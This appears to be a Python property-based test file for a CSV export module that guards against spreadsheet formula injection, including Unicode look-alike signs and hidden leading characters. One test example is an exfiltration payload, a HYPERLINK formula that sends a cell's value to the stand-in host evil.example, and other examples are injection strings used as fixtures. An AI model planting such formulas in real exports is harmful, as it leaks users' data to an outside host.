"""No spreadsheet takes a text for a formula, and the text can be had back."""

import csv
import io
import re
import sys
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sync.exports.cells import defused, restored
from sync.exports.csv_file import quoted

SIGNS = tuple("=+-@")
NASTY = st.text(
    alphabet=st.one_of(
        st.sampled_from("=+-@＝＋－＠'\"\t\r\n ,;|\ufeff\u200b\u00a0\u202e\x00\x0b\x7f\x85a1|!"),
        st.characters(codec="utf-8"),
    ),
    max_size=40,
)


def is_nothing_to_see(sign: str) -> bool:
    return sign.isspace() or unicodedata.category(sign) in {"Cf", "Cc", "Zs"} or sign == "\ufffd"


def would_run(cell: str) -> bool:
    """Tell whether any program may take the cell for a formula, by Unicode's own tables."""
    while cell and is_nothing_to_see(cell[0]):
        cell = cell[1:]
    return unicodedata.normalize("NFKC", cell[:1]).startswith(SIGNS)


def cells_of_a_careless_program(text: str) -> list[str]:
    """Cut at every separator and line break, whether in quotes or not."""
    return re.split(r'[,;|"\t\r\n]', text)


@given(NASTY)
@example('=HYPERLINK("http://evil.example?"&A1,"Refund")')
@example("\ufeff=1+1")
@example("\t=1")
@example("' =1")
@example('a";=1+1;"')
@example("\r\n\r\n@SUM(1)")
@example("\x00=1")
def test_no_cell_begins_a_formula_however_it_is_cut(text: str) -> None:
    cell = defused(text)

    assert not would_run(cell)
    assert not cell.startswith(("\t", "\r", "\n"))
    assert [one for one in cells_of_a_careless_program(cell) if would_run(one)] == []
    assert [one for one in cells_of_a_careless_program(quoted(text)) if would_run(one)] == []


@given(NASTY)
@example("'=1")
@example("''\n'-1")
def test_the_text_can_be_had_back_but_for_control_characters(text: str) -> None:
    kept = "".join(
        "\N{REPLACEMENT CHARACTER}"
        if unicodedata.category(sign) in {"Cc", "Cs"} and sign not in "\t\r\n"
        else sign
        for sign in text
    )

    assert restored(defused(text)) == kept


@given(st.lists(st.lists(NASTY, min_size=2, max_size=4), max_size=4))
def test_a_csv_reader_finds_the_cells_that_were_written(rows: list[list[str]]) -> None:
    written = "".join(",".join(map(quoted, row)) + "\r\n" for row in rows)

    read = list(csv.reader(io.StringIO(written, newline=""), strict=True))

    assert read == [[defused(text) for text in row] for row in rows]


def test_every_character_that_unicode_takes_for_a_sign_is_guarded() -> None:
    twins = [
        chr(number)
        for number in range(sys.maxunicode + 1)
        if not 0xD800 <= number < 0xE000
        and unicodedata.normalize("NFKC", chr(number)).startswith(SIGNS)
    ]

    assert len(twins) > 15
    assert [twin for twin in twins if defused(f"{twin}1") != f"'{twin}1"] == []


@pytest.mark.parametrize(
    "text", ["", "Hello", "a=b", "1-2", "mail@example.com", "提现冻结", "x'=1", "A - B", "50 %"]
)
def test_harmless_texts_stay_as_they_are(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("unit", ["\n", " ", "'", "\t ", ";'", "\u200b", '"'])
def test_long_runs_of_blanks_take_no_more_work_than_their_length(unit: str) -> None:
    text = unit * 200_000 + "=1"  # work that grows with the square would not end today

    assert restored(defused(text)) == text
